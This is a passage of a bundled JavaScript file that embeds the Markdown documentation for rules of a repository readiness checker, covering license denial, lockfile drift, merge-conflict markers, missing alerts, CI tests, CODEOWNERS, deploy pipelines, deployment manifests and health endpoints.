\"...\" }`; or turn the rule off: `rules: { k8s-probe-route-mismatch: off }`.\n";

// raw:rules/checks/license-denied.md
var license_denied_default = "# license-denied\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | supply-chain | 60 min | `src/checks/license-denied/` |\n\nA component whose license matches `deny-licenses`.\n\n## What is detected\n\nEvery SBOM component whose license is recorded (npm lockfiles v2/v3 record each\npackage's `license`; composer.lock its `license` list; the root package's\nmanifest) is evaluated against the `deny-licenses` input as an **SPDX\nexpression tree**, not by string matching:\n\n- `GPL-3.0-only` under a `GPL-3.0-only` deny: denied.\n- `MIT OR GPL-3.0-only`: allowed — the user may take MIT.\n- `MIT AND GPL-3.0-only`: denied — both apply.\n- `GPL-3.0-only` under a `GPL-2.0+` deny: denied (`spdx-satisfies` ranges).\n- A deny entry written as an expression (`GPL-3.0-only OR AGPL-3.0-only`)\n  denies each license in it.\n\nNon-SPDX spellings common in package metadata (`Apache 2.0`, `MIT License`)\nare mapped to SPDX IDs first.\n\n## Why it matters\n\nA dependency under a license your organisation cannot accept (copyleft in a\nproprietary product, a non-commercial license in a paid service) is a legal\nblocker that is far cheaper to find before release than after.\n\n## How to fix\n\nReplace the dependency with one under an allowed license, or obtain a\ndifferent license. If the use is acceptable (a dev-only tool that is never\ndistributed), suppress the finding with that reason.\n\n## Not detected (near-misses)\n\n- Components whose license is not recorded by their lockfile (Yarn, pnpm,\n  Poetry, Cargo, Go, Maven...): the rule counts them and says it *could not\n  tell* when no component has one; it never guesses from names.\n- Free-text licenses that are not SPDX (`SEE LICENSE IN LICENSE.md`): not\n  evaluated.\n- With no `deny-licenses` input the rule is *not applicable*.\n\n## Example finding\n\n> **P1 license-denied** `package-lock.json`\n> gpl-lib@1.0.0 is licensed GPL-3.0-only, which the deny list forbids\n> (GPL-3.0-only); listed in package-lock.json.\n\n## How to suppress\n\nA configuration suppression with the reason:\n`{ rule: license-denied, path: package-lock.json, reason: \"build tool only, not distributed\" }`.\n";

// raw:rules/checks/lockfile-out-of-sync.md
var lockfile_out_of_sync_default = '# lockfile-out-of-sync\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | supply-chain | 15 min | `src/checks/lockfile-out-of-sync/` |\n\nA dependency declared in a manifest that its lockfile does not contain, or was\nnot resolved for.\n\n## What is detected\n\n- **package.json vs its lockfile** (`package-lock.json`, `npm-shrinkwrap.json`,\n  `pnpm-lock.yaml`, `yarn.lock` of the same directory, or of an ancestor whose\n  lockfile records this package as a workspace, which wins over the package\'s\n  own: npm and pnpm install every workspace member from the root\'s lock, so a\n  member\'s own lockfile is then a stray; when the package.json, or the\n  nearest one above that says, names its manager in `packageManager`\n  (`"pnpm@9.1.0"`, what corepack runs), only that manager\'s lockfile: another\n  one beside it is a stray no install reads):\n  - a name declared in `dependencies`, `devDependencies` or\n    `optionalDependencies` that the lockfile does not lock;\n  - npm and pnpm only: a range changed in package.json after the lockfile was\n    made (npm records each project\'s declared ranges in `packages[""]`, pnpm in\n    `importers.*.specifier`): `npm ci` and `pnpm install --frozen-lockfile`\n    refuse to install. pnpm `overrides` (`pnpm-workspace.yaml` `overrides:`,\n    package.json `pnpm.overrides`, recorded in the lockfile\'s top-level\n    `overrides:`) rewrite a project\'s declared range before it is resolved:\n    a range an override applies to (`zod`, `undici@7` when the declared range\n    lies within or meets `7`, `web>chalk` only in project `web`) is in sync\n    when the lock\'s specifier is the override\'s value, or when the version\n    it resolved satisfies the declared range; an override to `-` removes the\n    dependency.\n- **pyproject.toml vs poetry.lock / uv.lock / pdm.lock**, and **Pipfile vs\n  Pipfile.lock**: a declared distribution (PEP 621 `dependencies`, optional\n  dependencies, `[dependency-groups]`, Poetry and PDM tables) that the lock does\n  not contain. Names are compared after PEP 503 normalization\n  (`typing_extensions` = `typing-extensions`).\n- **go.mod vs go.sum**: a `require` without a checksum line in go.sum, or a\n  go.mod with requirements and no go.sum at all (`go build -mod=readonly`\n  fails).\n\nThe finding is on the manifest line that declares the dependency.\n\n## Why it matters\n\nA lockfile that does not match its manifest means CI either fails\n(`npm ci`, frozen installs) or, worse, installs something nobody reviewed:\nwhat is tested is not what the manifest says.\n\n## How to fix\n\nRegenerate the lockfile with the package manager and commit it with the\nmanifest change: `npm install`, `pnpm install`, `yarn install`, `poetry lock`,\n`uv lock`, `pdm lock`, `pipenv lock`, `go mod tidy`. Install with the frozen\nmode in CI (`npm ci`, `--frozen-lockfile`, `poetry install --sync`,\n`uv sync --locked`) so drift fails early.\n\n## Examples\n\n```json\n// package.json                      // package-lock.json: packages[""]\n"dependencies": {                    "dependencies": {\n  "express": "^5.0.0",   ← P1          "express": "^4.18.0"\n  "zod": "^3.22.0"       ← P1 (missing) }\n}\n```\n\n## Not detected (near-misses)\n\n- A manifest with no lockfile at all: there is nothing to be out of sync with\n  (the rule is then *not applicable*).\n- Manifests and lockfiles under test or fixture directories (`test/`,\n  `fixtures/`, `testdata/`...): they are test data.\n- yarn: git, path, `workspace:` and `link:` specs (yarn rewrites their\n  descriptors); peer dependencies.\n- Python: the Poetry `content-hash` and Pipfile.lock\'s `_meta.hash` are not\n  recomputed; a changed constraint whose locked version still satisfies it is\n  not drift (dependency-version-conflict reports a locked version outside it).\n\n## Example finding\n\n> **P1 lockfile-out-of-sync** `package.json:6`\n> zod is declared in package.json but package-lock.json does not lock it: the\n> lockfile was not updated after the dependency was added.\n\n## How to suppress\n\n`readiness-gate-ignore lockfile-out-of-sync: <reason>` cannot be written in\nJSON; use a configuration suppression:\n`{ rule: lockfile-out-of-sync, path: package.json, reason: "..." }`.\n';

// raw:rules/checks/merge-conflict-marker.md
var merge_conflict_marker_default = "# merge-conflict-marker\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** | build | 15 min | `src/checks/merge-conflict-marker/` |\n\nUnresolved merge-conflict blocks that Git left in a committed file.\n\n## What is detected\n\nA complete conflict block in any scanned text file (code, configuration, docs,\nlockfiles), in this order, each marker exactly seven characters long, at the\nvery start of a line, and followed by a space, a tab or the end of the line:\n\n1. an opening marker, seven `<`, usually with the label of our side (`HEAD`);\n2. optionally a base marker, seven `|` (the `diff3` / `zdiff3` conflict style);\n3. a separator, seven `=` with nothing after it;\n4. a closing marker, seven `>`, usually with the label of their side (a branch\n   name or a commit SHA).\n\nThe finding is placed on the opening marker's line, spans to the closing one\n(`endLine`), and names the branch labels when Git wrote them. Nested blocks\n(a conflicted file that was merged again) are **one** finding, on the outermost\nblock, with the number of nested blocks in the message. LF and CRLF files are\nread alike.\n\nEvery file is handed to this check, so it first looks for an opening marker at a\nline start with plain substring searches and only splits the files that have one\ninto lines.\n\n**Every tracked text file.** This rule reads files that the other rules skip:\ngenerated and vendored ones (`dist/`, `vendor/`, `node_modules/`, `*.min.js`,\n`*.map`, the configured `paths.generated`), files over `limits.max-file-size`\n(streamed in 4 MiB chunks of whole lines that overlap by at least 512 KiB, so\nmemory stays bounded and a conflict block up to 512 KiB that starts in one chunk is read whole; a\nfinding from the overlap is reported once), and files that look binary (NUL\nbytes, bytes that are not UTF-8, read as Latin-1). Whether a file \"looks\nbinary\" is its author's choice (a NUL or a few control characters in a comment\nleave a JavaScript file working), so no content test decides what is read; the\npatterns are specific enough that images and archives do not match them. The other rules' skipped counts are unchanged; the job summary says\nhow many skipped files this rule still read.\n\n## When it is proven\n\nA finding is `proven` (P0) when the file holds a **complete** conflict block: `<<<<<<<`, an optional `|||||||`, `=======` and `>>>>>>>`, each exactly seven characters at the start of a line followed by whitespace or the end of the line, in that order. Lone markers never form a block, and in Markdown a fenced code block holding nothing but a sample block is an example, not a finding.\n\n- **Likely (P1):** the whole block lies inside one string literal, template literal or comment of a JavaScript, TypeScript or Python file that the language's lexer reads whole (`src/checks/merge-conflict-marker/literals.ts`). The file still runs, and the text may be data, such as a prompt that teaches an edit format (`<<<<<<< SEARCH` … `>>>>>>> REPLACE`) or a fixture. It may also be a conflict inside the literal. The finding names that gap. A block that starts or ends in code, a file the lexer refuses (markers in code usually make it so), another language, or a later chunk of a large file stays proven.\n- **Where the file lives** does not change it: the finding keeps its severity in every class of file (test, tooling, docs, example...). Generated, vendored, minified and large files are read too (`everyFile`): a committed conflict ships from there as surely.\n\n## Why it matters\n\nA file with conflict markers does not parse: Python, JavaScript, Go, YAML or\nJSON with a marker line fails at import, at build or at deploy time, and a\nKubernetes manifest or workflow with one is rejected. When it does parse (a\nREADME, a text template), it ships both versions of the text. Either way the\nmerge was committed without being finished, and nobody reviewed the result.\n\n## How to fix\n\nOpen the file at the reported lines, keep the side you want (or combine both),\ndelete the four kinds of marker lines, then build and run the tests again.\n`git diff --check` lists leftover markers; `git checkout --conflict=diff3 <file>`\nrecreates the conflict if the resolution went wrong. A pre-commit hook such as\n`check-merge-conflict` stops the next one.\n\n## Not detected (near-misses)\n\n- A lone separator line of seven `=`: the underline of a Markdown or RST\n  heading (setext style), a divider in a text file. Separator lines mean nothing\n  without an opening marker before them and a closing marker after.\n- Marker-like text that lacks the full block: a docs page that shows only an\n  opening marker, markers out of order, an opening and a closing marker with no\n  separator, a block that never closes.\n- Markers that do not start the line (indented, quoted, inside a string on a\n  code line), runs of eight or more characters (Git uses longer markers only\n  inside an outer block, which is reported), a marker glued to text, a\n  separator followed by text.\n- In Markdown, a fenced code block whose content (blank lines aside) starts and\n  ends with a marker line: a sample block in a contributing guide, a\n  SEARCH/REPLACE edit format, a marker shown alone. A real conflict inside a code\n  block nearly always has other lines around it in the same fence (the\n  command output both branches changed) or crosses the fence lines, and is\n  reported. The one real conflict this misses is one whose two sides are the\n  whole content of a fence.\n\nAn example, shown indented so that it is not itself a conflict:\n\n```text\n  <<<<<<< HEAD\n  port: 8080\n  =======\n  port: 9090\n  >>>>>>> feature/x\n```\n\n## Example finding\n\n> **P0 merge-conflict-marker** `src/config.py:3`\n> Unresolved merge conflict in src/config.py, lines 3-7 (<<<<<<< HEAD … >>>>>>> feature/x):\n> the merge was committed unfinished, with both sides and Git’s markers in the file.\n\n## How to suppress\n\nPrefer fixing it: a conflict block is never intended. For a test fixture of a\nmerge tool, suppress by path in the configuration file, with a reason:\n\n```yaml\nsuppressions:\n  - rule: merge-conflict-marker\n    path: test/fixtures/merge/**\n    reason: \"fixtures of the three-way merge tests, never built\"\n```\n\nor inline, on the line before the opening marker:\n`# readiness-gate-ignore merge-conflict-marker: fixture of the merge tests`.\n";

// raw:rules/checks/no-alerting-rules.md
var no_alerting_rules_default = '# no-alerting-rules\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | observability | 4 h | `src/checks/no-alerting-rules/` |\n\nA service with no alert defined as code.\n\nA **service rule**: it applies only when the profile is `service` (set, or detected: deployment files, Kubernetes workloads, an HTTP server dependency); for a library its findings are dropped and its gap rows say `n/a`.\n\n## What is detected\n\nNone of: a `PrometheusRule` (or VictoriaMetrics `VMRule`, `AlertmanagerConfig`), including Helm templates; a Prometheus rule file (`groups: - rules: - alert:`); an Alertmanager configuration (`route` + `receivers`); Grafana alert rules; alerts in jsonnet mixins (`prometheusAlerts`); Terraform monitors (datadog_monitor, newrelic alert conditions, CloudWatch alarms, Google/Azure alert policies, grafana_rule_group, PagerDuty/Opsgenie); Helm values switching a chart\'s alerts on (`prometheusRule.enabled: true`). Finding at `.`. The check fills the **alerting** gap row.\n\n## Why it matters\n\nMetrics nobody watches wake nobody up: when the service fails at night, users find out first.\n\n## How to fix\n\nDefine alerts next to the code and route them to the on-call rota, each with a runbook link:\n\n```yaml\ngroups:\n  - name: api\n    rules:\n      - alert: ApiHighErrorRate\n        expr: sum(rate(http_requests_total{status=~"5.."}[5m])) / sum(rate(http_requests_total[5m])) > 0.05\n        for: 10m\n```\n\n## Not detected (near-misses)\n\n- Alerts configured only in a vendor\'s UI: suppress with the reason.\n- Recording rules without `alert:`.\n- Libraries (service rule).\n\n## Example findings\n\n> **P1 no-alerting-rules** `.`\n> No alerting rules as code (no PrometheusRule, Prometheus rule file, Alertmanager/Grafana alerting or vendor monitors in Terraform): when the service fails, nobody is told.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore no-alerting-rules: <why this is safe>`; or in the configuration file, with a reason: `{ rule: no-alerting-rules, path: "...", reason: "..." }`; or turn the rule off: `rules: { no-alerting-rules: off }`.\n';

// raw:rules/checks/no-ci-tests.md
var no_ci_tests_default = "# no-ci-tests\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | deploy | 1 h | `src/checks/no-ci-tests/` |\n\nNo CI configuration runs the project's tests.\n\n## What is detected\n\nThe CI configurations of the repository — GitHub workflows, composite actions, `.gitlab-ci.yml`, CircleCI, Azure Pipelines, Bitbucket, Travis, Drone/Woodpecker, Cloud Build, CodeBuild, `Jenkinsfile` — are read and their commands classified. Tests run when a command is a test runner (pytest, jest, vitest, mocha, go test, cargo test, mvn test/verify/package, gradle test/check/build, make test, tox, nox, dotnet test, `npm test`, `npm run test:*`, a package.json script that runs a test runner, `scripts/test.sh`, an extensionless `scripts/test` or `script/test` run by its path (scripts-to-rule-them-all; a bare `test` is the shell's builtin), `cargo hack`/`cargo llvm-cov` running the tests (`cargo hack llvm-cov nextest`), chart-testing `ct install`, `bin/rails test`, a bare `rake` or `bundle exec rake` (the default task: the suite in Rails and by convention in gems), a script run by its path and named for a test runner (`bin/knapsack_pro_rspec`), a runner's rake task (`rake knapsack_pro:rspec`), `make run-integration-tests` (and the same task names run by `just`, `task` and Python's Invoke: `invoke tests`; a target named with a workflow expression, `make server-test-${{ matrix.db }}`, by the rest of its name), `skaffold test`...), also behind runners with options (`uv run --group dev tox`, `docker compose run --rm api pytest`), and in a `RUN` of a Dockerfile a step builds (`docker build -f`, build-push-action `file:`): `RUN go test ./...` runs in CI while the image is built.\n\n- No CI configuration at all: finding at `.`.\n- CI that never runs tests: finding at the first CI file. **Likely**, with the gap named, when a live job runs another repository's reusable workflow (`jobs.<id>.uses: org/workflows/.github/workflows/laravel.yml@v2`): its steps are not in the tree and may be the tests. A reusable workflow of the repository itself is read as its own file.\n- Tests only in switched-off jobs (`if: false`): finding at the test command; the gap row says `disabled`.\n\nThe check fills the **tests in CI** gap row.\n\nWith `path:` set to a subfolder, the repository root's CI files are read too, when they concern the folder ([A subfolder scan](../README.md#a-subfolder-scan-path-servicesapi)): a workflow whose `paths:` filters leave the folder out, or a job that works in another folder (`working-directory: services/web`, `cd services/web`), does not run this folder's tests. The gap row and a finding on such a file name it as `../../.github/workflows/<file>`.\n\n## Why it matters\n\nTests that only run on a laptop do not gate merges: regressions reach the main branch and the release.\n\n## How to fix\n\nAdd a job that runs the test suite on every pull request and on the default branch, and make it a required status check:\n\n```yaml\non: [pull_request, push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -e '.[test]' && pytest\n```\n\n## Not detected (near-misses)\n\n- Tests run by a third-party reusable workflow or an opaque script (`./ci.sh`) are not seen: the finding then says which files were read.\n- Masked tests (`pytest || true`) still run: that is workflow-masked-failure's finding.\n\n## Example findings\n\n> **P1 no-ci-tests** `.github/workflows/codeql-analysis.yml`\n> No CI job runs the tests (looked at .github/workflows/codeql-analysis.yml): changes are merged and released without them.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore no-ci-tests: <why this is safe>`; or in the configuration file, with a reason: `{ rule: no-ci-tests, path: \"...\", reason: \"...\" }`; or turn the rule off: `rules: { no-ci-tests: off }`.\n";

// raw:rules/checks/no-codeowners.md
var no_codeowners_default = '# no-codeowners\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P2** | operations | 15 min | `src/checks/no-codeowners/` |\n\nNobody is named as the owner of the code.\n\n## What is detected\n\n- **No CODEOWNERS file** in any of the three places GitHub reads:\n  `.github/CODEOWNERS`, `CODEOWNERS` (the repository root) and\n  `docs/CODEOWNERS`. The finding\'s location is `.` (the repository), with no line.\n- **A CODEOWNERS file that assigns no owner**: only comments, blank lines, or\n  patterns with no owner after them. GitHub uses the *first* of the three files\n  it finds, in the order above, and ignores the others, so the check judges\n  that one: an empty `.github/CODEOWNERS` hides a complete root `CODEOWNERS`,\n  and the message says so. The finding is placed on that file, with no line.\n\nA rule line is a pattern followed by at least one owner: `@user`,\n`@org/team` or an e-mail address. `#` starts a comment unless escaped (`\\#`).\n\nThe check also fills the **CODEOWNERS** row of the gap table: `present` with the\nfile GitHub reads, or `missing` (with the empty file as evidence, when there is\none).\n\nWith `path:` set to a subfolder, the repository root\'s CODEOWNERS is the one judged, in GitHub\'s order, since GitHub reads no other ([A subfolder scan](../README.md#a-subfolder-scan-path-servicesapi)); a CODEOWNERS inside the folder counts only when the root has none. A finding on the root\'s file is at `../../.github/CODEOWNERS` (the repository\'s `.github/CODEOWNERS` in annotations and SARIF).\n\n## Why it matters\n\nWithout owners, no one is asked to review a change to the deploy manifests, the\nworkflows or the payment code, branch protection cannot require a code-owner\nreview, and when something breaks in production nobody knows whose it is.\n\n## How to fix\n\nAdd `.github/CODEOWNERS` with a default owner and owners for the critical\npaths, naming teams that exist and have write access:\n\n```text\n# Default owners\n*                    @acme/backend\n/.github/workflows/  @acme/platform\n/deploy/             @acme/sre\n```\n\nThen turn on "Require review from Code Owners" in the branch protection rule.\n\n## Not detected (near-misses)\n\n- A `CODEOWNERS` file in another folder (`src/CODEOWNERS`, `.gitlab/CODEOWNERS`):\n  GitHub does not read it, so it does not count.\n- `OWNERS`, `MAINTAINERS` or `CODEOWNERS.md` files: other conventions, not\n  read by GitHub.\n- Whether the named users and teams exist or have write access: that needs the\n  GitHub API; the check only reads the file.\n- A lower-precedence file (`docs/CODEOWNERS`) that is empty while the one GitHub\n  reads has rules: it is ignored by GitHub, and by this check.\n\n## Example findings\n\n> **P2 no-codeowners** `.`\n> No CODEOWNERS file (looked for .github/CODEOWNERS, CODEOWNERS and\n> docs/CODEOWNERS): no one is requested to review changes, and who owns the\n> production code is written nowhere.\n\n> **P2 no-codeowners** `.github/CODEOWNERS`\n> .github/CODEOWNERS assigns no owner: it holds only comments, blank lines or\n> patterns without owners, so no one is requested to review changes (GitHub\n> reads .github/CODEOWNERS first and ignores CODEOWNERS, which names owners).\n\n## How to suppress\n\nFor a repository that is deliberately unowned (a sandbox, an archive), turn the\nrule off in the configuration file:\n\n```yaml\nrules:\n  no-codeowners: off\n```\n\nor suppress it with a reason: `{ rule: no-codeowners, path: ".", reason: "..." }`.\n';

// raw:rules/checks/no-deploy-pipeline.md
var no_deploy_pipeline_default = '# no-deploy-pipeline\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | deploy | 4 h | `src/checks/no-deploy-pipeline/` |\n\nNo CI job deploys the service.\n\nA **service rule**: it applies only when the profile is `service` (set, or detected: deployment files, Kubernetes workloads, an HTTP server dependency); for a library its findings are dropped and its gap rows say `n/a`.\n\n## What is detected\n\nIn the CI configurations (see no-ci-tests), a deploy is: `kubectl apply/set/rollout`, `helm upgrade/install`, `argocd app sync`, `flux reconcile`, `terraform/tofu apply`, `pulumi up`, `cdk/serverless/sam/fly/wrangler/railway deploy`, `gcloud ... deploy`, `aws ecs update-service`, `az ... deploy`, `git push heroku`, `<tool> deploy`, `./scripts/deploy.sh`, `make deploy`, a deploy action (ECS, Cloud Run, App Service, k8s-deploy, flyctl, Vercel, Heroku, Cloudflare...), a GitHub job with an `environment:`, or a job named deploy/rollout/promote with steps (not a job that publishes GitHub Pages: environment `github-pages`, `actions/deploy-pages`, `peaceiris/actions-gh-pages`; that deploys a site, usually the docs). GitOps resources in the repository (Argo CD `Application`, Flux `Kustomization`/`HelmRelease`) count as a pipeline.\n\n**Likely**, with the gap named, when a live CI step publishes a release and none deploys it: an image pushed (`docker push`, `docker buildx build --push`, `docker/build-push-action`), a GitHub release (`gh release create|upload`, goreleaser, `softprops/action-gh-release`), a release handed to another repository\'s workflow (`gh workflow run publish.yml --repo org/charts`), a package (`twine upload`, `cargo publish`, `craft publish`). What deploys the published artifact, a CD system watching the registry or the users of a product they host themselves, is not in the tree (gap: *"docker/build-push-action (.github/workflows/release.yml:40) publishes the release: what deploys it … is not in the tree"*).\n\nWhen every deploy found is switched off, there is no finding here (workflow-disabled-job reports it) and the **deploy pipeline** gap row says `disabled`. The finding is at the first CI file, or `.` without CI.\n\nWith `path:` set to a subfolder, the repository root\'s CI files are read too, when they concern the folder ([A subfolder scan](../README.md#a-subfolder-scan-path-servicesapi)): a deploy job of a workflow filtered to another folder, or working in another folder, does not deploy this one.\n\n## Why it matters\n\nReleases run by hand from a laptop are unrepeatable, unaudited and depend on one person\'s credentials.\n\n## How to fix\n\nAdd a deploy job after the tests, on the default branch, behind an environment with required reviewers:\n\n```yaml\ndeploy:\n  needs: test\n  if: github.ref == \'refs/heads/main\'\n  environment: production\n  steps:\n    - run: helm upgrade --install api charts/api --set image.tag=${{ github.sha }}\n```\n\n## Not detected (near-misses)\n\n- `docker push` alone (an image is not a deployment).\n- Deploys from tools outside the repository (a CD server configured elsewhere): suppress with the reason.\n\n## Example findings\n\n> **P1 no-deploy-pipeline** `.github/workflows/ci.yml`\n> No CI job deploys this service (no kubectl/helm/argocd/terraform apply or cloud deploy step in .github/workflows/ci.yml): releases depend on someone running commands by hand.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore no-deploy-pipeline: <why this is safe>`; or in the configuration file, with a reason: `{ rule: no-deploy-pipeline, path: "...", reason: "..." }`; or turn the rule off: `rules: { no-deploy-pipeline: off }`.\n';

// raw:rules/checks/no-deployment-manifest.md
var no_deployment_manifest_default = '# no-deployment-manifest\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | deploy | 4 h | `src/checks/no-deployment-manifest/` |\n\nNothing in the repository says how the service is built and run.\n\nA **service rule**: it applies only when the profile is `service` (set, or detected: deployment files, Kubernetes workloads, an HTTP server dependency); for a library its findings are dropped and its gap rows say `n/a`.\n\n## What is detected\n\nNone of: a Dockerfile/Containerfile, Kubernetes manifests (any workload, Service or Ingress), a Helm chart, a kustomization, a compose file, Procfile, App Engine `app.yaml`, `fly.toml`, `render.yaml`, serverless/SAM/CDK descriptors, `vercel.json`, `netlify.toml`, Railway, Skaffold, Tilt, Terraform, Cloud Foundry `manifest.yml`... outside examples/tests/docs. Finding at `.`. The check fills the **Dockerfile** and **Kubernetes manifests** gap rows.\n\n## Why it matters\n\nHow the service runs in production lives in someone\'s head or in a console: it cannot be reviewed, reproduced or rolled back.\n\n## How to fix\n\nAdd a Dockerfile that builds and runs the service, and the manifests of its platform (Deployment + Service, or a Helm chart, or the PaaS descriptor), reviewed like code.\n\n## Not detected (near-misses)\n\n- Manifests kept in another repository (GitOps): suppress with the reason.\n- Libraries (service rule).\n\n## Example findings\n\n> **P1 no-deployment-manifest** `.`\n> No deployment manifest: no Dockerfile, Kubernetes manifest, Helm chart, kustomization, compose file or serverless/PaaS descriptor says how this service is built and run.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore no-deployment-manifest: <why this is safe>`; or in the configuration file, with a reason: `{ rule: no-deployment-manifest, path: "...", reason: "..." }`; or turn the rule off: `rules: { no-deployment-manifest: off }`.\n';

// raw:rules/checks/no-health-endpoint.md
var no_health_endpoint_default = '# no-health-endpoint\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** | deploy | 1 h | `src/checks/no-health-endpoint/` |\n\nA service with HTTP routes but no health endpoint.\n\nA **service rule**: it applies only when the profile is `service` (set, or detected: deployment files, Kubernetes workloads, an HTTP server dependency — including a `*.csproj` on `Microsoft.NET.Sdk.Web`, a Gemfile with rails/sinatra/hanami/roda, a composer.json requiring laravel/framework, symfony/framework-bundle or slim/slim); for a library its findings are dropped and its gap rows say `n/a`.\n\n## What is detected\n\nThe HTTP route model (see k8s-probe-route-mismatch for the frameworks) is built per service (manifest folder). File-based routes are read from the file tree, each router with its own conventions: Next.js (`app/**/route.ts`, `page.tsx`, `pages/**`), React Router 7 / Remix (`app/routes/` flat routes with `$param`, `_index`, pathless `_layout`, `[.]` escapes, route folders, remix-flat-routes `+` folders; React Router\'s `app/routes.ts` literal `route()`, `index()`, `layout()`, `prefix()`, `flatRoutes()`; Remix 1 nested folders), SvelteKit (`src/routes/**/+server.ts` endpoints, `+page.svelte`/`+page.ts` pages; `(group)`, `[param]`, `[...rest]`, `[[optional]]`), Nuxt (`server/api/**` under `/api`, `server/routes/**`, `.get.ts` method suffixes, `pages/**`), Astro (`src/pages/**`: `.ts` endpoints such as `api/health.ts`, `.astro`/`.md` pages; an endpoint named like a file, `health.json.ts` → `/health.json`, is what a static build writes out and counts as a page) and SolidStart (`src/routes/**`). A route module\'s exports decide what it answers when its syntax was read (Remix: a default export is a page, `loader` alone a GET endpoint, `action` alone a POST one; SvelteKit, Astro, SolidStart: the exported `GET`, `POST`...); otherwise a Remix module is taken as a page answering GET. A router exported by a workspace package (`import { api } from \'@acme/api\'`, resolved by the package.json `name` to its entry, `src/` when the entry points at build output, through `export … from` re-exports) and mounted by an app (Hono `app.route(\'/api\', api)`, Express `app.use(\'/users\', router)`) is anchored under the mount, and its routes belong to the mounting app\'s service: the package is not judged as a service of its own. A service with routes and none whose path has a health-like segment (`health`, `healthz`, `healthcheck`, `ready`, `readyz`, `live`, `livez`, `liveness`, `readiness`, `alive`, `status`, `ping`, `heartbeat`, `up`, `startup`) before any path parameter is reported at the file of its first route (after a parameter the word names a page of a resource: `/servers/{id}/startup`, `/jobs/:id/status`). Health libraries count: Spring Boot Actuator, `@nestjs/terminus`, `@godaddy/terminus`, lightship, express-actuator, fastify-healthcheck, django-health-check, heptiolabs/healthcheck, SmallRye Health... and so does a health-like path written anywhere in the service\'s code. The check fills the **health endpoints** gap row.\n\n## When it is proven\n\nA finding is `proven` (P0) when the profile is `service`, the route model read HTTP routes of a service, and none of these exists for it: a health-like route (`/health`, `/healthz`, `/ready`, `/live`, `/status`, `/ping`...), a health library (Spring Actuator, terminus, django-health-check...), a health path written anywhere in its code, or an HTTP `HEALTHCHECK` in its Dockerfile (database and broker checks such as `pg_isready` do not count), **and** all of these hold:\n\n- the repository deploys the service: a deployable unit of the repository map runs it — a container image (a Dockerfile\'s folder or a compose `build` context holding the service, a Dockerfile below the service that belongs to it, an image whose `CMD`/`ENTRYPOINT` starts one of its files) or a Helm chart holding it — or a `Procfile`/`fly.toml` of the service;\n- no other app of the same deployable unit serves a health route (a second app may be mounted into it);\n- its routes are all read: no file that may answer any path before the routes (Next.js `middleware.ts`, a SvelteKit `hooks.server.ts` exporting `handle`, Nuxt `server/middleware/*`, a Remix/React Router `app/entry.server.tsx`, Astro or SolidStart `src/middleware.ts`), and a React Router `app/routes.ts` that was read in full;\n- it is not a Spring service (Spring Boot Actuator may come in transitively: Maven and Gradle dependencies are not resolved);\n- nothing answers a probe without a health route: `GET /` (an index page, or an API\'s `GET /` like "API is running"), a mount or static files at `/` (Swagger UI, a SPA\'s `express.static`), a catch-all route, `GET /metrics` (an exporter), or (Python) a parameter-free GET whose handler only returns a constant (`/check` → `{"status": "ok"}`: a health check in all but name). A liveness probe can use any of them, so only a dedicated endpoint would be missing, not the ability to probe.\n\n### Stacks read\n\nBesides the frameworks listed under k8s-probe-route-mismatch (Python, JS/TS, Go, Spring):\n\n- **ASP.NET Core** (service: the `*.csproj` folder): minimal APIs (`app.MapGet/MapPost/MapPut/MapDelete/MapPatch/Map/MapMethods/MapHub`, `MapGroup` prefixes through variables and chains, `UseEndpoints(e => e.MapGet(...))`), `MapHealthChecks`/`UseHealthChecks` (health routes), attribute-routed controllers (`[Route("api/[controller]")]` on the class, `[HttpGet("{id}")]`/`[Route]` on actions, `~/` and `/` templates absolute, `[action]`), `UsePathBase` (routes served under the base too). Routes match case-insensitively. `AddHealthChecks()` without a `MapHealthChecks` in the same file, .NET Aspire\'s `MapDefaultEndpoints()` and `MapGrpcHealthChecksService()` count as health libraries with unknown paths. Conventional routing (`MapControllerRoute`; `[HttpGet]` without a template in a controller without `[Route]` adds no path), Razor Pages and components, `MapFallback*`, `MapReverseProxy` and SPA hosting (`UseSpa`, `UseDefaultFiles`) make the service\'s routes a catch-all. Optional trailing parameters (`{id?}`, `{page=1}`) also answer without them. A `MapGet` on a parameter (an extension method in a shared project) is known by its tail only.\n- **Rails** (service: the `Gemfile` folder): `config/routes.rb` and the `config/routes/*.rb` files it `draw`s — verbs (`get "up" => "rails/health#show"`, Rails 7.1\'s `/up`, counts as health), `match ... via:`, `root`, `resources`/`resource` (`only:`/`except:`, nesting, `member`/`collection`), `namespace`, `scope` (optional `(...)` segments both ways), `mount X => \'/path\'` and `devise_for` (everything under the path is served). A drawn file missing from the tree is named as unread. Other Ruby files (Sinatra) are not read.\n- **Laravel** (service: the `composer.json` folder): `routes/web.php` at the root and `routes/api.php` under `/api` (or the `apiPrefix` / RouteServiceProvider prefix the app sets): `Route::get(...)` and the other verbs, `Route::resource`/`apiResource`, `Route::prefix(...)->group(...)`, `Route::group([\'prefix\' => ...], ...)`, `Route::fallback` and `->where(\'any\', \'.*\')` (catch-alls), optional `{name?}` parameters; Laravel 11\'s `->withRouting(health: \'/up\')` is a health route. Route files elsewhere (modules, packages) are known by their tail only.\n- **Symfony**: every routing source or the routes are unread. `path:` entries (a string or one per locale) of `config/routes.yaml`, `config/routes/*.yaml`, `config/routes/prod/*.yaml` and `when@prod:` blocks (not `when@dev:`/`when@test:`, nor `config/routes/dev/`); `#[Route(\'/path\', methods: [...])]` on controller methods under the class\'s `#[Route(\'/prefix\')]`, served under each `prefix:` (a string or per-locale map) of the `type: attribute` imports that load their folder or file (`routing.controllers`: all); a trailing parameter with a default (`/{_locale}`, `{page?1}`) may be left out. A bundle\'s `@X/...` resource, a PHP or XML routing file, another import type, a 